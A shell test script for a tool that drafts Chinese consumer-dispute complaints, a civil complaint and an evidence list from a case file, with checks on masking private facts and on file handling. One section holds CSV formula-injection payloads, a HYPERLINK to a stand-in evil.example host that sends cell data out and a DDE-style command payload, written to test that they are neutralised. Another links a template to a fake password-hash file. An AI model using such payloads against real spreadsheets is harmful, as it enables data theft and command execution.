# dispute draft: every recipient's letter and the evidence list from one complete case,
# with the facts, Chinese dates and one evidence numbering throughout; the public post
# keeps the buyer's private facts out; missing facts are listed and nothing is written;
# usage errors; CSV with fingerprints; -o; per-case and --template overrides; the tone
# warning; English drafts; the drafts inside the dossier.
. "$TEST_LIB"

ORDER=6912345678901234
MASKED=6912****1234
PHONE=13812345678
IDNO=11010519491231002X
ADDRESS=北京市朝阳区建国路88号1单元101室
COMPANY=福州好物贸易有限公司
SHOP=好物旗舰店
COURT=北京互联网法院
TEMPLATES=$TEST_DATA_DIR/../../templates
CR=$(printf '\r')

# A complete case: every fact every draft needs.
"$DISPUTE" -q init c || exit 1
set_all c claimant.name 张三 claimant.phone "$PHONE" claimant.id_number "$IDNO" \
    claimant.address "$ADDRESS" merchant.shop "$SHOP" merchant.company "$COMPANY" \
    merchant.credit_code 91350100M000100Y43 merchant.address 福建省福州市鼓楼区五四路100号 \
    merchant.representative 李四 case.platform douyin case.court "$COURT" \
    order.id "$ORDER" order.product "充电宝 20000mAh" order.amount 199.90 \
    order.date 2026-10-01 order.received 2026-10-03 problem.category quality \
    problem.description "收到后充电宝无法充电，指示灯不亮。" demand.text "退货退款，退还货款199.90元。"
# Four items, the first removed: the drafts number the remaining three 证据1..证据3 in case
# order, whatever their E-numbers.
"$DISPUTE" -q -C c add-evidence -k other "$EVIDENCE/invoice.pdf" >/dev/null || exit 1
"$DISPUTE" -q -C c add-evidence -k defect -n 指示灯不亮 "$EVIDENCE/defect-photo.jpg" >/dev/null ||
    exit 1
"$DISPUTE" -q -C c add-evidence -k order "$EVIDENCE/order-screenshot.png" >/dev/null || exit 1
"$DISPUTE" -q -C c add-evidence -k chat "$EVIDENCE/chat-merchant.txt" >/dev/null || exit 1
"$DISPUTE" -q -C c rm-evidence E01 2>/dev/null || exit 1
"$DISPUTE" -q -C c log -c merchant -o refused -d 2026-10-05 "商家拒绝退款" || exit 1
"$DISPUTE" -q -C c log -c platform -o refused -d 2026-10-09 -r P-7788 "平台驳回申诉" || exit 1

# The evidence list: number, name and file of each item, in the numbering every draft uses.
expect 0 "draft evidence-list" "$DISPUTE" -C c draft evidence-list
check "draft evidence-list prints nothing on stderr" test ! -s err
cp out evlist.txt
awk '/^序号：/ { n = substr($0, length("序号：") + 1) }
    /^证据名称：/ { name = substr($0, length("证据名称：") + 1) }
    /^文件名：/ { print n "|" name "|" substr($0, length("文件名：") + 1) }' evlist.txt >numbering
printf '%s\n' "1|商品问题照片/视频（指示灯不亮）|E02-defect.jpg" \
    "2|订单截图（order-screenshot.png）|E03-order.png" \
    "3|聊天记录（chat-merchant.txt）|E04-chat.txt" >want
same want numbering "the evidence list numbers the three items 1-3 in case order"
contains evlist.txt "证据数量：3项" "the evidence list counts 3 items"
contains evlist.txt "对方当事人：$COMPANY" "the evidence list names the company"
contains evlist.txt "订单号：$ORDER" "the evidence list names the order"
contains evlist.txt "提交人：张三" "the evidence list names the buyer"
contains evlist.txt "提交日期：2026年11月18日" "the evidence list is dated today in Chinese"
for f in E02-defect.jpg E03-order.png E04-chat.txt; do
	sum=$(sha256sum "c/evidence/$f" | cut -d ' ' -f 1)
	contains evlist.txt "SHA-256：$sum" "the evidence list gives the SHA-256 of $f"
done
lacks evlist.txt "E01" "the removed item is not in the evidence list"

# Every recipient.
for to in platform 12315 consumer-association court social; do
	expect 0 "draft complaint --to $to" "$DISPUTE" -C c draft complaint --to "$to"
	check "the $to draft prints nothing on stderr" test ! -s err
	cp out "$to.txt"
	contains "$to.txt" "199.90" "the $to draft gives the amount paid"
	contains "$to.txt" "2026年10月1日" "the $to draft gives the order date in Chinese"
	contains "$to.txt" "2026年10月5日" "the $to draft gives the merchant contact's date in Chinese"
	contains "$to.txt" "2026年10月9日" "the $to draft gives the platform contact's date in Chinese"
	lacks "$to.txt" "2026-10-01" "the $to draft writes no ISO date"
	contains "$to.txt" "$COMPANY" "the $to draft names the company"
	contains "$to.txt" "$SHOP" "the $to draft names the shop"
	contains "$to.txt" "充电宝 20000mAh" "the $to draft names the product"
	contains "$to.txt" "商品存在质量问题" "the $to draft states the problem category in Chinese"
	contains "$to.txt" "收到后充电宝无法充电，指示灯不亮。" "the $to draft quotes the description"
	contains "$to.txt" "商家拒绝退款" "the $to draft recounts the merchant contact"
	contains "$to.txt" "证据3" "the $to draft cites 证据3"
	lacks "$to.txt" "证据4" "the $to draft cites no 证据4"
	lacks "$to.txt" "{{" "the $to draft has no unrendered tag"
	# The court draft requires demand.text (a missing one is listed), so it must use it.
	contains "$to.txt" "退货退款，退还货款199.90元。" "the $to draft quotes the demand.text it requires"
	if [ "$to" != social ]; then
		contains "$to.txt" "$ORDER" "the $to draft gives the order number"
		contains "$to.txt" "2026年10月3日" "the $to draft gives the date received in Chinese"
	fi
done

# Each item under its number, as in the evidence list.
while IFS='|' read -r n name file; do
	for to in platform 12315 consumer-association; do
		check "the $to draft lists 证据$n as $name ($file)" \
		    sh -c "grep -F '证据$n：$name，' $to.txt | grep -qF '（文件：$file）'"
	done
done <numbering
line platform.txt "   证据1（商品问题照片/视频）：商品存在的问题" "the platform draft argues from 证据1"
line platform.txt "   证据2（订单截图）：.*" "the platform draft argues from 证据2"
line court.txt "商品存在的问题，有商品问题照片/视频为证（见证据1）。" "the court draft cites 证据1"
line court.txt ".*有订单截图为证（见证据2）。" "the court draft cites 证据2"
line court.txt ".*有聊天记录为证（见证据3）。" "the court draft cites 证据3"
line social.txt "证据1：商品问题照片/视频（商品存在的问题）" "the public post lists 证据1"
line social.txt "证据2：订单截图（.*）" "the public post lists 证据2"
line social.txt "证据3：聊天记录（.*）" "the public post lists 证据3"

# Recipient-specific facts.
contains platform.txt "致：抖音客服及投诉处理部门" "the platform draft is addressed to Douyin"
contains 12315.txt "联系电话：$PHONE" "the 12315 draft gives the buyer's phone"
contains 12315.txt "地址：$ADDRESS" "the 12315 draft gives the buyer's address"
contains 12315.txt "地址：福建省福州市鼓楼区五四路100号" "the 12315 draft gives the company's address"
contains 12315.txt "统一社会信用代码：91350100M000100Y43" "the 12315 draft gives the credit code"
contains consumer-association.txt "消费者协会" "the consumer-association draft is addressed to it"
contains consumer-association.txt "联系电话：$PHONE" "the consumer-association draft gives the phone"

# The court draft: a 民事起诉状 with the evidence list appended.
line court.txt "民事起诉状" "the court draft is headed 民事起诉状"
line court.txt "二、诉讼请求" "the court draft has 诉讼请求"
line court.txt "四、事实与理由" "the court draft has 事实与理由"
line court.txt "此致" "the court draft has 此致"
line court.txt "$COURT" "the court draft names the court on its own line after 此致"
check "the court's name follows 此致 directly" \
    sh -c "grep -A1 -x '此致' court.txt | tail -n 1 | grep -qx '$COURT'"
line court.txt "原告：张三，女，1949年12月31日出生，民族（待填），职业或工作单位（待填），住$ADDRESS，公民身份号码$IDNO，联系电话$PHONE。" \
    "the court draft gives the plaintiff's particulars in one paragraph, gender and birth date from the ID number"
line court.txt "法定代表人：李四" "the court draft names the legal representative"
line court.txt "被告：$COMPANY" "the court draft names the company as defendant"
line court.txt "统一社会信用代码：91350100M000100Y43" "the court draft gives the credit code"
line court.txt "1\. 判令被告向原告退还货款人民币199\.90元；" "the court draft claims the refund of 199.90"
line court.txt "标的总额：人民币199\.90元" "the court draft gives the total"
line court.txt "具状人：张三（签名）" "the court draft is signed by the plaintiff"
line court.txt "2026年11月18日" "the court draft is dated today in Chinese"
n=$(wc -l <evlist.txt)
tail -n "$n" court.txt >appended
same evlist.txt appended "the court draft ends with the evidence list, unchanged"
check "the evidence list comes after 此致" sh -c \
    "[ \$(grep -n -x '此致' court.txt | cut -d: -f1) -lt \$(grep -n -x '证据清单' court.txt | cut -d: -f1) ]"

# The public post: none of the buyer's private facts, and the masked order number only.
lacks social.txt "$PHONE" "the public post leaves out the phone number"
lacks social.txt "$IDNO" "the public post leaves out the ID number"
lacks social.txt "$ADDRESS" "the public post leaves out the address"
lacks social.txt "$ORDER" "the public post leaves out the full order number"
check "the public post gives the masked order number" grep -qxF "订单号：$MASKED" social.txt
lacks social.txt "P-7788" "the public post leaves out the ticket number"

# Private facts the buyer typed into the description are masked, with a warning.
"$DISPUTE" -q -C c set problem.description "充电宝无法充电，请回电$PHONE，或写信到$ADDRESS。" ||
    exit 1
expect 0 "the public post with the phone and address in the description" \
    "$DISPUTE" -C c draft complaint --to social
lacks out "$PHONE" "the phone number typed into the description is masked"
lacks out "$ADDRESS" "the address typed into the description is masked"
contains out "具体情况：充电宝无法充电，请回电***，或写信到***。" "the masks stand in their places"
contains err "phone number" "the masking of the phone number is warned about"
contains err "address" "the masking of the address is warned about"
expect 0 "the 12315 draft keeps the description as written" \
    "$DISPUTE" -C c draft complaint --to 12315
contains out "具体情况：充电宝无法充电，请回电$PHONE" "only the public post masks the description"
"$DISPUTE" -q -C c set problem.description "充电宝无法充电，身份证${IDNO}，订单$ORDER。" || exit 1
expect 0 "the public post with the ID and order numbers in the description" \
    "$DISPUTE" -C c draft complaint --to social
lacks out "$IDNO" "the ID number typed into the description is masked"
lacks out "$ORDER" "the full order number typed into the description is masked"
contains out "订单$MASKED。" "the order number in the description is masked like the order line"
contains err "ID number" "the masking of the ID number is warned about"
# The buyer's own number written the way people write it, in groups.
"$DISPUTE" -q -C c set problem.description "请回电 138 1234 5678 或 138-1234-5678。" || exit 1
expect 0 "the public post with the phone number written in groups" \
    "$DISPUTE" -C c draft complaint --to social
lacks out "138 1234 5678" "the phone number written with spaces is masked"
lacks out "138-1234-5678" "the phone number written with dashes is masked"
# A case's own public-post template cannot leak the private facts either.
mkdir c/templates || exit 1
printf '%s\n' '电话{{claimant.phone}} 身份证{{claimant.id_number}} 订单{{order.id}}' \
    >c/templates/complaint-social.txt.mustache
expect 0 "the public post from a case template naming private facts" \
    "$DISPUTE" -C c draft complaint --to social
printf '电话*** 身份证*** 订单%s\n' "$MASKED" >want
same want out "private facts in a case's own public-post template are masked"
expect 0 "the public post from --template naming private facts" \
    "$DISPUTE" -C c draft complaint --to social --template c/templates/complaint-social.txt.mustache
same want out "private facts in a --template public post are masked"
rm c/templates/complaint-social.txt.mustache
"$DISPUTE" -q -C c set problem.description "收到后充电宝无法充电，指示灯不亮。" || exit 1

# The tone check warns but does not refuse.
cp -R c tone || exit 1
"$DISPUTE" -q -C tone set problem.description "这家店就是骗子，收到后无法充电。" || exit 1
expect 0 "a description calling the seller 骗子 still drafts" \
    "$DISPUTE" -C tone draft complaint --to platform
contains err "骗子" "the tone warning names the word"
contains err "problem.description" "the tone warning names the field"
contains err "warning" "the tone message is a warning"
contains out "这家店就是骗子，收到后无法充电。" "the buyer's words are not changed"
expect 0 "the tone warning with -o" "$DISPUTE" -C tone draft complaint --to platform -o tone.txt
check "the draft is written despite the tone warning" test -s tone.txt
contains err "骗子" "the tone warning is given with -o too"
expect 0 "no tone warning for plain words" "$DISPUTE" -C c draft complaint --to platform
lacks err "warning" "plain words draw no warning"

# -o: the file, owner-only, the same text, nothing on stdout.
expect 0 "draft complaint --to court -o" "$DISPUTE" -C c draft complaint --to court -o out-court.txt
check "-o prints nothing on stdout" test ! -s out
same court.txt out-court.txt "-o writes the same text as stdout"
check "the -o file is owner-only (0600)" test "$(stat -c %a out-court.txt)" = 600
echo old >out-court.txt
chmod 644 out-court.txt
expect 1 "-o refuses an existing file" "$DISPUTE" -C c draft complaint --to court -o out-court.txt
contains err "out-court.txt: exists; give --force to replace it" "the refusal says how to replace it"
check "the refused file is untouched" test "$(cat out-court.txt)" = old
expect 0 "-o --force replaces an existing file" "$DISPUTE" -C c draft complaint --to court -o out-court.txt --force
same court.txt out-court.txt "the replaced file holds the draft"
check "the replaced file is owner-only (0600)" test "$(stat -c %a out-court.txt)" = 600

# The evidence list as CSV.
expect 0 "draft evidence-list --csv" "$DISPUTE" -C c draft evidence-list --csv
cp out list.csv
BOM=$(printf '\357\273\277')
check "the CSV header is 序号,证据名称,证据来源,证明目的,文件名,SHA-256,份数,证据形式,备注, then the time and origin, then the pages, after the BOM" \
    test "$(head -n 1 list.csv)" = "${BOM}序号,证据名称,证据来源,证明目的,文件名,SHA-256,份数,证据形式,备注,形成时间,时间记载来源,时长,取得方式,形成设备,应用程序,原始文件名,原始文件大小（字节）,原始文件修改时间,登记时间,页数,页码$CR"
check "the CSV has the header and one row per item" test "$(wc -l <list.csv)" -eq 4
i=0
while IFS='|' read -r n name file; do
	i=$((i + 1))
	sum=$(sha256sum "c/evidence/$file" | cut -d ' ' -f 1)
	line list.csv "\"$n\",\"$name\",\"[^\"]*\",\"[^\"]*\",\"$file\",\"$sum\",\"1\",\"电子数据\",\"\",.*,\"[1-9][0-9]*\",\"[1-9][-0-9]*\"$CR" \
	    "CSV row $n is $name, $file with the SHA-256 of the case's copy and its pages in the book"
done <numbering
check "the CSV rows are in the evidence list's order" sh -c \
    "cut -d, -f5 list.csv | tail -n +2 | tr -d '\"' >files && printf '%s\n' E02-defect.jpg E03-order.png E04-chat.txt | cmp -s - files"
expect 0 "draft evidence-list --csv -o" "$DISPUTE" -C c draft evidence-list --csv -o out.csv
check "--csv -o prints nothing on stdout" test ! -s out
same list.csv out.csv "--csv -o writes the same CSV"
check "the CSV file is owner-only (0600)" test "$(stat -c %a out.csv)" = 600
expect 0 "draft evidence-list -o" "$DISPUTE" -C c draft evidence-list -o out-list.txt
check "evidence-list -o prints nothing on stdout" test ! -s out
same evlist.txt out-list.txt "evidence-list -o writes the text list"
# A note with a quote and a comma is one quoted CSV field.
cp -R c quoted || exit 1
"$DISPUTE" -q -C quoted add-evidence -k defect -n '接口"松动",无法充电' "$EVIDENCE/no-power.mp4" \
    >/dev/null || exit 1
expect 0 "draft evidence-list --csv with a quote in a note" "$DISPUTE" -C quoted draft evidence-list --csv
check "the CSV has 4 rows after a fourth item" test "$(wc -l <out)" -eq 5
contains out '"4","商品问题照片/视频（接口""松动"",无法充电）",' "quotes are doubled inside a quoted field"
# What the buyer wrote (or a case someone sent) is never run as a spreadsheet formula:
# a cell starting with = + - @ or a tab gets an apostrophe inside its quotes.
cp -R c formula || exit 1
"$DISPUTE" -q -C formula add-evidence -k defect --proves '=HYPERLINK("http://evil.example/?"&A1,"点击查看")' \
    "$EVIDENCE/no-power.mp4" >/dev/null &&
"$DISPUTE" -q -C formula add-evidence -k order --proves "@SUM(1+1)*cmd|' /C calc'!A0" \
    "$EVIDENCE/invoice.pdf" >/dev/null &&
"$DISPUTE" -q -C formula add-evidence -k other --proves "$(printf '\t-1+2')" \
    "$EVIDENCE/call.mp3" >/dev/null || exit 1
expect 0 "draft evidence-list --csv with formulas as purposes" "$DISPUTE" -C formula draft evidence-list --csv
contains out '"'"'"'=HYPERLINK(""http://evil.example/?""&A1,""点击查看"")"' "a cell starting with = starts with an apostrophe"
contains out "\"'@SUM(1+1)*cmd|' /C calc'!A0\"" "a cell starting with @ starts with an apostrophe"
contains out "\"'$(printf '\t')-1+2\"" "a cell starting with a tab starts with an apostrophe"
lacks out '"=' "no cell starts with ="
lacks out '"@' "no cell starts with @"

# Missing facts: the list of `dispute set` lines, and nothing written.
"$DISPUTE" -q init f || exit 1
"$DISPUTE" -q -C f set order.id "$ORDER" || exit 1
expect 1 "draft complaint --to court with only order.id is refused" \
    "$DISPUTE" -C f draft complaint --to court
check "the refusal writes nothing on stdout" test ! -s out
contains err "nothing was written" "the refusal says nothing was written"
for field in claimant.name claimant.id_number claimant.address claimant.phone merchant.company \
    merchant.address merchant.representative case.court case.platform order.product \
    order.amount order.date problem.category problem.description demand.text; do
	line err " *$field +dispute set $field VALUE .*" "the refusal lists $field with its dispute set line"
done
lacks err "dispute set order.id" "the refusal does not list the recorded order.id"
contains err "dispute add-evidence" "the refusal asks for evidence"
contains err "16 more fact(s)" "the refusal counts the missing facts"
expect 1 "the refused draft with -o" "$DISPUTE" -C f draft complaint --to court -o f-court.txt
check "-o FILE is not created on a refusal" test ! -e f-court.txt
echo keep >kept.txt
expect 1 "the refused draft with -o over an existing file" \
    "$DISPUTE" -C f draft complaint --to court -o kept.txt
check "an existing -o FILE is untouched on a refusal" test "$(cat kept.txt)" = keep
expect 1 "the refused evidence list" "$DISPUTE" -C f draft evidence-list --csv -o f.csv
check "the refused CSV is not created" test ! -e f.csv
line err " *claimant\.name +dispute set claimant\.name VALUE .*" "the evidence list asks for claimant.name"
# One fact short of the court draft: only that fact is listed.
cp -R c nocourt || exit 1
"$DISPUTE" -q -C nocourt set --unset case.court || exit 1
expect 1 "the court draft without case.court is refused" "$DISPUTE" -C nocourt draft complaint --to court
contains err "1 more fact(s)" "exactly one fact is missing"
line err " *case\.court +dispute set case\.court VALUE .*" "the missing case.court is listed"
lacks err "dispute set claimant" "facts on record are not listed"
expect 0 "the 12315 draft does not need case.court" "$DISPUTE" -C nocourt draft complaint --to 12315

# Usage errors.
expect 2 "--to an unknown recipient is a usage error" "$DISPUTE" -C c draft complaint --to mayor
contains err "mayor" "the usage error names the recipient"
check "an unknown recipient writes nothing on stdout" test ! -s out
expect 2 "draft complaint without --to is a usage error" "$DISPUTE" -C c draft complaint
contains err "--to" "the usage error asks for --to"
expect 2 "--to evidence-list is not a complaint" "$DISPUTE" -C c draft complaint --to evidence-list
expect 2 "--csv with a complaint is a usage error" "$DISPUTE" -C c draft complaint --to court --csv
expect 2 "--lang fr is a usage error" "$DISPUTE" -C c draft complaint --to court --lang fr
expect 2 "draft of an unknown kind is a usage error" "$DISPUTE" -C c draft letter
expect 2 "draft without a kind is a usage error" "$DISPUTE" -C c draft
expect 2 "an unknown recipient with -o" "$DISPUTE" -C c draft complaint --to mayor -o mayor.txt
check "a usage error creates no -o file" test ! -e mayor.txt

# A case's own template replaces the shipped one for that draft only.
printf '%s\n' 'OVERRIDE {{order.id}}' >c/templates/complaint-platform.txt.mustache
expect 0 "the platform draft with the case's own template" "$DISPUTE" -C c draft complaint --to platform
printf 'OVERRIDE %s\n' "$ORDER" >want
same want out "the case's template is rendered instead of the shipped one"
expect 0 "the 12315 draft with a platform override" "$DISPUTE" -C c draft complaint --to 12315
same 12315.txt out "other drafts still use the shipped templates"
rm c/templates/complaint-platform.txt.mustache
expect 0 "the platform draft after the override is removed" "$DISPUTE" -C c draft complaint --to platform
same platform.txt out "without the override the shipped template is back"
printf '%s\n' 'TEMPLATE {{merchant.shop}} {{order.amount}} {{order.date_zh}}' >own.txt.mustache
expect 0 "--template renders the given file" "$DISPUTE" -C c draft complaint --to court \
    --template own.txt.mustache
printf 'TEMPLATE %s 199.90 2026年10月1日\n' "$SHOP" >want
same want out "--template renders FILE against the case"
expect 1 "--template with a missing file fails" "$DISPUTE" -C c draft complaint --to court \
    --template missing.mustache
check "a missing --template prints nothing on stdout" test ! -s out
printf '%s\n' '{{#order}}unclosed' >broken.txt.mustache
expect 1 "--template that does not parse fails" "$DISPUTE" -C c draft complaint --to court \
    --template broken.txt.mustache -o broken.txt
contains err "broken.txt.mustache:1:1:" "the parse error names the template's file, line and column"
check "a template that does not parse writes no -o file" test ! -e broken.txt

# English drafts.
if [ -f "$TEMPLATES/en/complaint-court.txt.mustache" ] &&
    [ -f "$TEMPLATES/en/complaint-platform.txt.mustache" ] &&
    [ -f "$TEMPLATES/en/evidence-list.txt.mustache" ]; then
	expect 0 "draft complaint --to court --lang en" "$DISPUTE" -C c draft complaint --to court --lang en
	contains out "Civil Complaint" "the English court draft is a Civil Complaint"
	contains out "Plaintiff" "the English court draft names the Plaintiff"
	contains out "Defendant: $COMPANY" "the English court draft names the Defendant"
	contains out "Exhibit 3" "the English court draft cites Exhibit 3"
	contains out "CNY 199.90" "the English court draft gives the amount"
	contains out "$COURT" "the English court draft names the court"
	lacks out "民事起诉状" "the English court draft has no Chinese heading"
	lacks out "证据1" "the English court draft has no Chinese labels"
	expect 0 "draft complaint --to platform --lang en" "$DISPUTE" -C c draft complaint --to platform \
	    --lang en
	contains out "Order number: $ORDER" "the English platform draft gives the order number"
	contains out "Douyin" "the English platform draft names the platform in English"
	contains out "Exhibit 1: photo or video of the defect" "the English draft numbers the exhibits alike"
	expect 0 "draft evidence-list --csv --lang en" "$DISPUTE" -C c draft evidence-list --csv --lang en
	check "the English CSV header" test "$(head -n 1 out)" = "${BOM}No.,Evidence,Source,Purpose,File,SHA-256,Copies,Form,Note,Made,Time recorded by,Duration,Obtained by,Device,App,Original file,Original size,Original modified,Added,Pages,Page no.$CR"
	cp -R c english || exit 1
	"$DISPUTE" -q -C english set case.language en || exit 1
	expect 0 "case.language en drafts in English" "$DISPUTE" -C english draft complaint --to 12315
	contains out "12315" "the English 12315 draft names 12315"
	lacks out "投诉人" "the English 12315 draft has no Chinese labels"
	expect 0 "--lang zh-CN overrides case.language en" "$DISPUTE" -C english draft complaint \
	    --to 12315 --lang zh-CN
	same 12315.txt out "--lang zh-CN gives the Chinese draft"
else
	echo "SKIP - templates/en is not complete; English drafts not tested"
fi

# The dossier holds the drafts whose facts are complete, identical to `dispute draft`.
expect 0 "pack the complete case" "$DISPUTE" -C c pack -o full.zip
expect 0 "the dossier verifies" "$DISPUTE" verify full.zip
unzip -Z1 full.zip >names
ROOT=dispute-$ORDER-20261118
for doc in 00-证据清单.txt 01-平台投诉.txt 02-12315投诉.txt 03-消费者协会投诉.txt 04-民事起诉状.txt \
    05-公开说明.txt; do
	check "the dossier holds data/documents/$doc" grep -qxF "$ROOT/data/documents/$doc" names
done
check "the dossier holds six documents" test "$(grep -c "^$ROOT/data/documents/.*\.txt$" names)" -eq 6
unzip -p full.zip "$ROOT/data/documents/04-民事起诉状.txt" >packed-court.txt
same court.txt packed-court.txt "the packed court draft is the drafted one"
unzip -p full.zip "$ROOT/data/documents/05-公开说明.txt" >packed-social.txt
same social.txt packed-social.txt "the packed public post is the drafted one"
lacks packed-social.txt "$PHONE" "the packed public post has no phone number"
unzip -p full.zip "$ROOT/data/documents/00-证据清单.txt" >packed-list.txt
same evlist.txt packed-list.txt "the packed evidence list is the drafted one"
check "the documents are in the payload manifest" sh -c \
    "unzip -p full.zip '$ROOT/manifest-sha256.txt' | grep -q 'data/documents/04-'"
expect 0 "pack the case without case.court" "$DISPUTE" -C nocourt pack -o partial.zip
expect 0 "that dossier verifies" "$DISPUTE" verify partial.zip
unzip -Z1 partial.zip >names
check "without case.court there is no 民事起诉状" sh -c "! grep -q '04-民事起诉状' names"
check "the other five documents are packed" test "$(grep -c "^$ROOT/data/documents/.*\.txt$" names)" -eq 5
expect 0 "pack the case missing most facts" "$DISPUTE" -C f pack -o bare.zip
unzip -Z1 bare.zip >names
check "a case with no complete draft packs no documents" sh -c "! grep -q '/data/documents/.' names"
expect 0 "that dossier verifies too" "$DISPUTE" verify bare.zip

# A case's own template that is a link (to a file of the reader's) is refused, not
# rendered into the draft.
cp -r c linked && rm -rf linked/templates linked/.dispute.lock
mkdir -p linked/templates
printf 'root:secret-hash:20228:0:99999:7:::\n' >secret
ln -s "$SCRATCH/secret" linked/templates/complaint-platform.txt.mustache
expect 1 "a linked case template is refused" "$DISPUTE" -C linked draft complaint --to platform
contains err "a symbolic link; a case's own templates must be files inside the case folder" \
    "the refusal names the link"
lacks out "secret-hash" "nothing of the linked file is printed"
rm linked/templates/complaint-platform.txt.mustache
printf 'A{{> part}}B\n' >linked/templates/complaint-platform.txt.mustache
ln -s "$SCRATCH/secret" linked/templates/part.mustache
"$DISPUTE" -C linked draft complaint --to platform >out 2>err
lacks out "secret-hash" "a partial that is a link is not read"
contains out "AB" "the draft renders without the linked partial"
contains err "part.mustache: cannot open: a symbolic link" "the linked partial is named"

finish
